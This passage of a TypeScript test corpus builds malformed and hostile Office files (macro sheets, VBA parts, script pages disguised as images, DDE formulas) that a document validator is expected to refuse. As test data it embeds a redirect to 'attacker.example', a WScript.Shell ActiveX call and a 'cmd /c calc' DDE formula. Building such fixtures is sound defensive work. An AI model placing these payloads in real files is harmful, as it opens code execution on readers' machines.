            'xl/_rels/workbook.xml.rels': rels(
              rel('rId1', 'worksheet', 'worksheets/sheet1.xml'),
              rel('rId2', 'worksheet', 'worksheets/sheet2.xml'),
            ),
          },
          [{ name: 'xl/worksheets/sheet2.xml', data: macroSheet }],
        ),
      'MACROS',
    ),
    item(
      'xlsx-intl-macro-sheet-by-relationship-under-worksheet-name',
      'macros',
      () =>
        office(
          'xlsx',
          {
            'xl/_rels/workbook.xml.rels': rels(
              rel('rId1', 'worksheet', 'worksheets/sheet1.xml'),
              rel(
                'rId2',
                'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet',
                'worksheets/sheet2.xml',
              ),
            ),
          },
          [{ name: 'xl/worksheets/sheet2.xml', data: macroSheet }],
        ),
      'MACROS',
    ),
    item(
      'docx-macro-enabled-main-override-other-case',
      'macros',
      () =>
        office('docx', {
          '[Content_Types].xml': contentTypes('docx').replace(
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
            '<Override PartName="/WORD/DOCUMENT.XML" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
          ),
        }),
      'MACROS',
    ),
    item(
      'docx-vba-project-override-other-case-other-name',
      'macros',
      () =>
        office(
          'docx',
          {
            '[Content_Types].xml': contentTypes(
              'docx',
              '<Override PartName="/WORD/MEDIA/IMAGE9.BIN" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
          },
          [{ name: 'word/media/image9.bin', data: randomBytes(2048) }],
        ),
      'MACROS',
    ),
  ];
}

/**
 * Web pages under a picture's name or a page's own (round 15), VALID before: no Office reader
 * renders them, but a reviewer who unpacks the file and opens one runs its script in a browser.
 * By first bytes after a byte order mark and line ends, and by name.
 */
function pageOfficeItems(): CorpusItem[] {
  const page = '<html><body><script>location="http://attacker.example/"</script></body></html>';
  return [
    item(
      'docx-html-page-named-as-jpeg',
      'OOXML executable',
      () => office('docx', {}, [{ name: 'word/media/a.jpg', data: `\ufeff\r\n\t${page}` }]),
      'EMBEDDED_EXECUTABLE',
    ),
    item(
      'xlsx-html-script-named-as-png',
      'OOXML executable',
      () =>
        office('xlsx', {}, [
          { name: 'xl/media/image1.png', data: '<SCRIPT>new ActiveXObject("WScript.Shell")</SCRIPT>' },
        ]),
      'EMBEDDED_EXECUTABLE',
    ),
    item(
      'docx-html-page-by-name',
      'OOXML executable',
      () => office('docx', {}, [{ name: 'word/media/page.mhtml', data: `MIME-Version: 1.0\r\n\r\n${page}` }]),
      'EMBEDDED_EXECUTABLE',
    ),
  ];
}

/** The Defaults SheetJS writes into every workbook's content types (round 16). */
const SHEETJS_DEFAULTS =
  '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>' +
  '<Default Extension="data" ContentType="application/vnd.openxmlformats-officedocument.model+data"/>';

/**
 * A Default types only the parts of its extension (round 16): one no part has types nothing, so
 * SheetJS's are no longer refused, and what a Default's type would refuse is refused once a part
 * of its extension is met, before [Content_Types].xml or after it.
 */
function defaultTypedOfficeItems(): CorpusItem[] {
  const withDefaults = (name: string, first: boolean) => {
    const entries = xlsxEntries().map((e) =>
      e.name === '[Content_Types].xml' ? { ...e, data: contentTypes('xlsx', SHEETJS_DEFAULTS) } : e,
    );
    const part = { name, data: randomBytes(512) };
    return buildZip(first ? [part, ...entries] : [...entries, part]);
  };
  return [
    item(
      'xlsx-default-binary-sheet-part-before-types',
      'macros',
      () => withDefaults('xl/worksheets/sheet2.BIN', true),
      'MACROS',
    ),
    item(
      'xlsx-default-binary-sheet-part-after-types',
      'macros',
      () => withDefaults('xl/worksheets/sheet2.Bin', false),
      'MACROS',
    ),
    item(
      'xlsx-default-data-model-part',
      'OOXML external',
      () => withDefaults('xl/model/item.data', true),
      'OOXML_EXTERNAL',
    ),
  ];
}

/**
 * Round 17: UTF-16 markup in Excel's folder is accepted only as a worksheet custom property's value,
 * typed and reached as one (shared/validation/ooxml/custom-properties.ts); the same bytes reached
 * as a worksheet, or typed otherwise, stay refused.
 */
function customPropertyItems(): CorpusItem[] {
  return [
    item(
      'xlsx-utf16-custom-property-reached-as-worksheet',
      'OOXML unreadable',
      () => workbookWithProperty({ workbookRels: rel('rId9', 'worksheet', 'customProperty1.bin'), partFirst: true }),
      'OOXML_UNREADABLE',
    ),
    item(
      'xlsx-utf16-custom-property-without-its-type',
      'OOXML unreadable',
      () => workbookWithProperty({ types: '' }),
      'OOXML_UNREADABLE',
    ),
    item(
      'docx-xml-default-main-type-on-part-outside-word',
      'OOXML unreadable',
      () => typedByXmlDefault('docx', { add: [{ name: 'body/document.xml', data: '<w:document/>' }], typesLast: true }),
      'OOXML_UNREADABLE',
    ),
    item(
      'xlsx-xml-default-main-type-on-styles',
      'OOXML unreadable',
      () => typedByXmlDefault('xlsx', { untyped: ['xl/styles.xml'] }),
      'OOXML_UNREADABLE',
    ),
    item(
      'xlsx-custom-property-holding-a-dde-sheet',
      'DDE',
      () =>
        workbookWithProperty({
          data: `<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
        }),
      'OOXML_DDE',
    ),
    // Round 18: reached as a worksheet through a fragment a reader resolving the target drops.
    item(
      'xlsx-utf16-custom-property-reached-as-worksheet-through-a-fragment',
      'OOXML unreadable',
      () => workbookWithProperty({ workbookRels: rel('rId9', 'worksheet', 'customProperty1.bin#sheet') }),
      'OOXML_UNREADABLE',
    ),
  ];
}
